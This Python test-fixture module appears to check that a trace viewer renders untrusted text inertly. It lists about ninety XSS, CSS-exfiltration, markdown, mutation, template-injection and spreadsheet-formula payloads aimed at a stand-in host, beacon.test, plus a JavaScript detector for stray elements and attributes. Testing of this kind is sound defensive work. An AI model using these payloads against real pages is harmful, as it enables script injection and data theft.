"""Hostile texts: what a model, a document it read or a stranger may put into any field of a trace.

Each tries to set ``window.ran``, to open a dialog, or to make the page ask ``beacon.test`` for something. None holds
more than the browser needs to try; what they have in common is that text must stay text.
"""

from typing import Any, Final

_RUN: Final = "window.ran=1"
_NET: Final = "http://beacon.test"

_SCRIPT: Final = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_NET}/s.js></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script/x>{_RUN}</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<script type=module>import('{_NET}/m.js')</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<!--<script>-->{_RUN}//</script>",
    f"<script>alert({_RUN})</script>",
    '<script type="application/json" data-spanbook>{"meta":{}}</script>',
]
HANDLERS: Final = [
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img/src/onerror={_RUN}>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onfocus={_RUN} autofocus="',
    f"' onmouseover='{_RUN}",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'>x</details>",
    f"<video src={_NET}/v onerror='{_RUN}'></video>",
    f"<video><source onerror='{_RUN}'></video>",
    f"<audio src={_NET}/a autoplay onplay={_RUN}></audio>",
    f"<body onload={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<div onpointerrawupdate={_RUN} style=position:fixed;inset:0>x</div>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart='{_RUN}'>x</b>",
    f"<dialog open onclose={_RUN}>x</dialog>",
    f"<button popovertarget=x onclick={_RUN}>x</button><div popover id=x onbeforetoggle={_RUN}>y</div>",
]
_SVG: Final = [
    f"<svg onload='{_RUN}'></svg>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_NET}/s.js /></svg>",
    f"<svg><use href='{_NET}/a.svg#x'></use></svg>",
    f"<svg><image href={_NET}/i.png /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math href=javascript:{_RUN}>x</math>",
]
_FRAMES: Final = [
    "<iframe src='javascript:window.parent.ran=1'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src={_NET}/f></iframe>",
    f"<object data='{_NET}/o'></object>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
    f"<embed src='{_NET}/e'>",
    f"<portal src={_NET}/p></portal>",
    f"<frameset onload={_RUN}><frame src={_NET}/f>",
]
_BEACONS: Final = [
    f"<img src={_NET}/a.png>",
    f"<img srcset='{_NET}/b.png 1x'>",
    f"<picture><source srcset={_NET}/c.png><img></picture>",
    f"<link rel=stylesheet href={_NET}/s.css>",
    f"<link rel=prefetch href={_NET}/p>",
    f"<link rel=dns-prefetch href={_NET}>",
    f"<base href={_NET}/>",
    f"<meta http-equiv=refresh content='0;url={_NET}/'>",
    f"<form action={_NET}/><button autofocus onfocus='{_RUN}'>x</button></form>",
    f"<input type=image src={_NET}/i.png>",
    f"<table background={_NET}/t.png><td background={_NET}/d.png>x",
    f"<video poster={_NET}/p.png></video>",
    f"<track src={_NET}/t.vtt default>",
    f"<a ping={_NET}/ping href=#x>x</a>",
]
_CSS: Final = [
    f"<style>@import url({_NET}/i.css); .sb{{background:url({_NET}/b.png)}}</style>",
    f"<p style='background:url({_NET}/s.png)'>x</p>",
    f"x;background:url({_NET}/q.png)",
    f"red}}.sb{{background:url({_NET}/r.png)}}.x{{",
    f"expression({_RUN})",
    f"<b style='behavior:url({_NET}/h.htc)'>x</b>",
    f"<style>.sb input[value^='s']{{background:url({_NET}/leak?s)}}</style>",
    f"@font-face{{font-family:x;src:url({_NET}/f.woff)}}",
]
_MARKDOWN: Final = [
    f"![x]({_NET}/m.png)",
    f"![x](x \"onerror='{_RUN}'\")",
    f'![x"onerror="{_RUN}]({_NET}/alt.png)',
    f"[x](javascript:{_RUN})",
    f"[x](  javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](java&Tab;script:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](\x01javascript:{_RUN})",
    "[x](data:text/html,<script>opener.ran=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4=)",
    f"[x](vbscript:{_RUN})",
    f"[x](blob:{_NET}/1234)",
    "[x](file:///etc/passwd)",
    "[x](//beacon.test/protocol-relative)",
    f"[x]: {_NET}/ref\n\n![x][x]",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"<javascript:{_RUN}>",
    f"[<img src=x onerror='{_RUN}'>](http://a.test/)",
    f"[x](http://a.test/ \"' onclick={_RUN} x='\")",
    f"`<img src=x onerror='{_RUN}'>`",
    f"```<img src=x onerror='{_RUN}'>\n</code></pre><img src=x onerror={_RUN}>\n```",
    f"| a |\n|-|\n| <img src=x onerror='{_RUN}'> |",
    f"- <svg onload='{_RUN}'>",
    f"> <iframe src=javascript:{_RUN}>",
    f"# <a href=javascript:{_RUN}>x</a>",
    f"[^1]: <img src=x onerror={_RUN}>\n\nx[^1]",
]
#: Texts that a sanitiser makes harmful by mending them; we mend nothing.
_MUTATION: Final = [
    f"<math><mtext><table><mglyph><style><img src=x onerror='{_RUN}'>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={_RUN}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f'<xmp><p title="</xmp><svg/onload={_RUN}>">',
    f"<option><style></option></select><img src=x onerror={_RUN}></style>",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href=javascript:{_RUN}?><a>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<img src=x onerror\u00a0={_RUN}>",
    "<a id=host name=host href=x>clobber</a><form id=spanbook><input name=ran>",
]
_TEMPLATES: Final = [
    "{{constructor.constructor('window.ran=1')()}}",
    "{%import os%}{{7*7}}",
    "${window.ran=1}",
    "#{window.ran=1}",
    "<%= window.ran=1 %>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__":{"ran":1}}',
    "$&$1$`$'",
    "%s%n%x",
    "'-(window.ran=1)-'",
    "');window.ran=1;('",
    f"javascript:{_RUN}",
    "$$\\href{javascript:window.ran=1}{x}$$ and $\\style{background:url(http://beacon.test/t)}{x}$",
    "\\(\\unicode{<img src=x onerror=window.ran=1>}\\)",
]
_TEXT: Final = [
    "\u202egnp.exe\u0000<b>",
    "\u2066\u2067safe\u2069 \u202dtxt.exe\u202c",
    "\ufeff\u200b\u200d<script>\u200b",
    "\x1b[31mred\x1b[0m\x1b]8;;http://beacon.test\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H\x07\x08\x7f",
    "Z\u0351\u0306\u030d" * 30,
    "\u2028window.ran=1\u2029",
    "=cmd|'/c calc'!A1",
    "a" * 20_000,
    "<" * 3_000,
    "[" * 3_000 + "x" + "](" * 40,
    f'<img alt="{"a" * 10_000}" src=x onerror={_RUN}>',
]

#: All of them; at least ninety, each once.
PAYLOADS: Final[list[str]] = [
    *_SCRIPT, *HANDLERS, *_SVG, *_FRAMES, *_BEACONS, *_CSS, *_MARKDOWN, *_MUTATION, *_TEMPLATES, *_TEXT,
]  # fmt: skip

#: Where a text that streams is cut: behind every character that means something to one parser or another.
_AWKWARD: Final = "<>\"'=/&;:()[]{}!`$\\\n\t |#-"


def prefixes(payload: str, most: int = 24) -> list[str]:
    """Return the starts of a payload as a stream would show them, the whole at last."""
    ends = [at for at, letter in enumerate(payload, 1) if letter in _AWKWARD]
    step = max(1, len(ends) // most)
    return [payload[:end] for end in ends[::step] if end < len(payload)] + [payload]


#: Defines ``outside(root)`` in a page: elements and attributes under a selector that no view of ours makes, as texts.
OUTSIDE: Final = r"""
window.outside = (root) => {
  const tags = new Set(('div span b i em s code pre p br hr ul ol li table thead tbody tfoot ' +
    'tr th td caption h2 h3 h4 h5 button input textarea select option label fieldset legend kbd dl ' +
    'dt dd canvas section details summary a blockquote mark img style noscript small sub ' +
    'sup ins del header footer nav output progress meter col colgroup svg g ' +
    'path line rect text tspan circle ellipse polygon polyline defs marker title clippath pattern').split(' '));
  const names = new Set(('id class role title style type href target rel src alt width height value min ' +
    'max step placeholder autocomplete autocapitalize spellcheck scope start colspan rowspan span ' +
    'hidden disabled open lang dir for name tabindex draggable ' +
    'rows cols checked selected multiple required inputmode enterkeyhint list ' +
    'size readonly maxlength pattern controls preload loading decoding download contenteditable translate ' +
    'inert d x y x1 x2 y1 y2 cx cy r rx ry dx dy points transform viewbox preserveaspectratio fill stroke ' +
    'stroke-width stroke-dasharray stroke-linecap stroke-linejoin fill-opacity stroke-opacity opacity ' +
    'text-anchor dominant-baseline font-size font-weight font-family marker-end marker-start markerwidth ' +
    'markerheight refx refy orient markerunits pathlength clip-path vector-effect shape-rendering focusable ' +
    'xmlns crossorigin nonce').split(' '));
  const found = [];
  for (const el of document.querySelectorAll(`${root}, ${root} *`)) {
    const tag = el.tagName.toLowerCase();
    if (!tags.has(tag)) found.push(`<${tag}>`);
    for (const { name, value } of el.attributes) {
      const known = names.has(name.toLowerCase()) || /^(aria|data)-[a-z-]+$/.test(name);
      if (!known) found.push(`<${tag} ${name.slice(0, 40)}>`);
      if (name === 'href' && !/^(https?:|mailto:|#[\w-]*$)/.test(value)) found.push(`href ${value.slice(0, 60)}`);
      if (name === 'src' && !value.startsWith('blob:')) found.push(`src ${value.slice(0, 60)}`);
      if (name === 'style' && /url\(|image-set|expression|@import|script/i.test(value)) found.push('style of text');
      if (name === 'type' && value === 'image') found.push('input of type image');
    }
    const opensApart = el.target === '_blank' && /noopener/.test(el.rel) && el.title;
    if (tag === 'a' && !opensApart) found.push('a link that does not open apart, with its target shown');
    if (tag === 'style' && /beacon|window\.ran/.test(el.textContent)) found.push('a style sheet made of text');
  }
  if (window.ran !== undefined || {}.ran !== undefined) found.push('it ran');
  return [...new Set(found)];
};
"""


def parts_of(payload: str) -> list[dict[str, Any]]:
    """Every kind of message part with the payload in every field of it."""
    return [
        {"type": "text", "content": payload},
        {"type": "reasoning", "content": payload},
        {"type": "refusal", "content": payload},
        {"type": "tool_call", "id": payload[:9], "name": payload, "arguments": {payload: payload}},
        {"type": "tool_call", "id": "2", "name": "f", "arguments": payload},
        {"type": "tool_call_response", "id": payload[:9], "response": payload},
        {"type": "tool_call_response", "id": "none", "response": {payload: [payload]}},
        {"type": "uri", "modality": payload, "uri": payload},
        {"type": "uri", "modality": "image", "uri": "http://beacon.test/u.png"},
        {"type": "file", "filename": payload},
        {"type": "blob", "modality": "image", "mime_type": payload, "digest": payload, "size": 1},
        {"type": "blob", "modality": "image", "mime_type": "image/svg+xml", "digest": "d" * 32, "size": 1},
        {"type": "not_captured", "count": 1, "reason": payload},
        {"type": payload, "content": payload},
    ]


def detail_of(payload: str, others: list[str]) -> dict[str, Any]:
    """A span with the payload in every field, and more of them where a field holds many."""
    all_of = [payload, *others]
    frame = {
        "$type": "dataframe",
        "shape": [1, 1],
        "columns": [payload],
        "dtypes": {payload: payload},
        "head": [{payload: payload}],
    }
    special = {"$type": "repr", "class": payload, "text": payload}
    long = {"$long": True, "size": 9_000, "head": payload, "path": [payload], "field": payload}
    records = [{"name": each, payload: each} for each in all_of]
    return {
        "input": {
            "kind": "messages",
            "value": [{"role": each, "name": each, "parts": parts_of(each)} for each in all_of],
        },
        "output": {"kind": "json", "value": {"records": records, payload: [special, frame, long, *all_of]}},
        "error": {"type": payload, "module": payload, "message": payload, "traceback": payload},
        "tools": [{"name": each, "description": each, "parameters": {each: each}} for each in all_of],
        "metadata": {each: each for each in all_of},
        "model_parameters": {each: each for each in all_of},
        "attributes": {each: each for each in all_of},
        "events": [{"time_ms": 0, "name": each, "data": {each: each}} for each in all_of],
        "scores": [
            {"name": each, "value": each, "value_type": "text", "source": each, "comment": each} for each in all_of
        ],
        "span": {
            "model": payload,
            "provider": payload,
            "error_type": payload,
            "finish_reason": payload,
            "response_id": payload,
            "prompt_name": payload,
            "prompt_version": payload,
            "cost_source": payload,
            "cost_usd": 1.0,
            "user_id": payload,
            "session_id": payload,
            "environment": payload,
            "release": payload,
            "feature": payload,
            "region": payload,
            "tags": all_of,
            "notebook": payload,
        },
    }
